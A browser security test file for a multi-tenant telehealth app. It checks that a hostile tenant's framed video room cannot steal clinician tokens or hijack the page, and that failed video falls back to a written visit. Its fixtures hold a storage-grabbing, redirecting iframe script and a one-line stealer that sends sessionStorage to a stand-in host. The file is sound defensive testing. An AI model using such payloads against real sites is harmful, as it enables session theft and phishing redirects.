import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { configureTenant, staffToken } from "../support/app.js";
import { sql } from "../support/join.js";
import { patientVisit, startRig, TENANT, videoJoined, type Rig } from "../support/browser.js";

const HOSTILE_TENANT = "hostile-clinic";
const HOSTILE_DOMAIN = "evil.test.example";

/**
 * What a hostile tenant admin could serve from the video domain they configure: a room page that
 * tries to read the embedding page's storage and to take it elsewhere, and an external_api.js that
 * would steal the session's tokens were it ever run in our origin.
 */
const hostileRoom = `<!doctype html><title>room</title><p>room</p><script>
var loot = {};
function grab(name, fn) { try { loot[name] = String(fn()); } catch (e) { loot[name] = "blocked: " + e.name; } }
grab("parentSessionStorage", function () { return JSON.stringify(parent.sessionStorage); });
grab("topSessionStorage", function () { return JSON.stringify(top.sessionStorage); });
grab("parentDocument", function () { return parent.document.body.innerHTML; });
grab("parentIndexedDb", function () { return parent.indexedDB.open("virtual-care"); });
grab("topNavigation", function () { top.location.href = "https://${HOSTILE_DOMAIN}/phish"; return "attempted"; });
window.__loot = loot;
</script>`;
const stealer = `fetch("https://${HOSTILE_DOMAIN}/steal?s=" + encodeURIComponent(JSON.stringify(sessionStorage)));`;

describe("Browser: the video room is a frame of the video domain's own origin", () => {
  let rig: Rig;
  let token: string;
  beforeAll(async () => {
    rig = await startRig();
    token = await rig.staffToken();
    await configureTenant(rig.app, HOSTILE_TENANT, { videoBackends: [{ name: "primary", domain: HOSTILE_DOMAIN }] });
  });
  afterAll(() => rig?.close());

  /** A patient of `tenant` in its waiting room, then admitted. */
  const admitted = async (page: Page, tenant: string, staff: string, patientId: string) => {
    const { sessionId, participantId, joinUrl } = await patientVisit(rig, staff, patientId);
    const answer = await page.goto(joinUrl);
    await page.getByRole("button", { name: "Continue to the waiting room" }).click();
    await page.getByRole("heading", { name: "Waiting room" }).waitFor();
    const admit = await rig.app.request({ method: "POST", url: `/v1/sessions/${sessionId}/participants/${participantId}/admit`, token: staff });
    expect(admit.statusCode, `${tenant} admits`).toBe(200);
    return { sessionId, csp: answer!.headers()["content-security-policy"]! };
  };

  it("when a tenant's video domain is hostile, then its room cannot read another tenant's clinician token, run script in our origin, or move the page", async () => {
    const ctx = await rig.context();
    const requests: Array<{ url: string; type: string }> = [];
    await ctx.route(`https://${HOSTILE_DOMAIN}/**`, (route) => {
      const req = route.request();
      requests.push({ url: req.url(), type: req.resourceType() });
      const path = new URL(req.url()).pathname;
      if (path === "/external_api.js") return route.fulfill({ contentType: "application/javascript", body: stealer });
      return route.fulfill({ contentType: "text/html", body: hostileRoom });
    });
    const page = await rig.page(ctx);
    // One tab, two tenants (a shared device): clinic one's clinician signed in here first.
    await page.goto(`${rig.base}/console#token=${token}`);
    await page.getByRole("heading", { name: "Today's visits" }).waitFor();
    expect(await page.evaluate(() => sessionStorage.length)).toBeGreaterThan(0);

    const hostileStaff = await staffToken(HOSTILE_TENANT, ["clinician", "scheduler"], "dr-evil");
    const { csp } = await admitted(page, HOSTILE_TENANT, hostileStaff, "patient-of-hostile");
    // The page runs our scripts only; the room may be framed from its tenant's domain, no other tenant's.
    expect(csp).toContain("script-src 'self';");
    expect(csp).toContain(`frame-src https://${HOSTILE_DOMAIN};`);
    expect(csp).not.toContain("video.test.example");

    const roomFrame = () => page.frames().find((f) => f.url().startsWith(`https://${HOSTILE_DOMAIN}/`));
    await expect.poll(() => roomFrame() !== undefined).toBe(true);
    const room = roomFrame();
    await room!.waitForFunction(() => (window as unknown as { __loot?: object }).__loot !== undefined);
    const loot = await room!.evaluate(() => (window as unknown as { __loot: Record<string, string> }).__loot);
    expect(loot.parentSessionStorage).toMatch(/^blocked: SecurityError/);
    expect(loot.topSessionStorage).toMatch(/^blocked: SecurityError/);
    expect(loot.parentDocument).toMatch(/^blocked: SecurityError/);
    expect(loot.parentIndexedDb).toMatch(/^blocked: SecurityError/);

    // The room said nothing our page understands: it is told so, and the page is still ours.
    await page.getByTestId("video-failed").waitFor({ timeout: 30_000 });
    expect(new URL(page.url()).origin).toBe(rig.base);
    expect(await page.evaluate(() => sessionStorage.length)).toBeGreaterThan(0);
    // Nothing from the video domain but the room's own page was ever asked for: no script, no theft.
    expect(requests.filter((r) => r.type !== "document")).toEqual([]);
    expect(requests.some((r) => r.url.includes("/steal"))).toBe(false);
  }, 90_000);

  it("when the video cannot load, then the patient is told, it retries, and offers the written visit; once the domain answers, the room opens; hanging up inside the room leaves the visit", async () => {
    const ctx = await rig.context();
    const page = await rig.page(ctx);
    ctx.video.down = true;
    const { sessionId } = await admitted(page, TENANT, token, "patient-video-down");
    const failed = page.getByTestId("video-failed");
    await failed.waitFor({ timeout: 30_000 });
    expect(await failed.getByRole("heading").textContent()).toBe("The video could not load");
    expect(await page.locator("[data-video-state]").getAttribute("data-video-state")).toBe("failed");
    expect(await rig.axe(page)).toEqual([]);
    await rig.screenshot(page, "patient-video-failed");
    await page.setViewportSize({ width: 1440, height: 900 });
    await rig.screenshot(page, "patient-video-failed-desktop");
    await page.setViewportSize({ width: 360, height: 640 });

    ctx.video.down = false;
    await failed.getByRole("button", { name: "Try again" }).click();
    const join = await videoJoined(page);
    expect(await failed.count()).toBe(0);
    // The room's own button, clicked in the room's document. Not with a mouse click: hanging up
    // removes the frame, and a mouse event whose frame's renderer is torn down while it is being
    // delivered may never be acknowledged (CI once waited out the click's 30 s there).
    await join.frame.getByRole("button", { name: "Hang up" }).dispatchEvent("click");
    await page.locator("[data-screen=left]").waitFor();

    // Down again: the way out is the written visit, and what is sent there reaches the clinic.
    ctx.video.down = true;
    await page.getByRole("button", { name: "Rejoin" }).click();
    await failed.waitFor({ timeout: 30_000 });
    await failed.getByRole("button", { name: "Write to the clinic instead" }).click();
    await page.getByLabel("Your message").fill("The video would not start; my rash is spreading.");
    await page.getByRole("button", { name: "Send" }).click();
    await page.getByText("Thank you: your clinician has received your message.").waitFor({ timeout: 30_000 });
    expect(await sql(rig.app, "select id from async_visits where session_id = $1", [sessionId])).toHaveLength(1);
    expect(ctx.cspViolations).toEqual([]);
  }, 120_000);
});
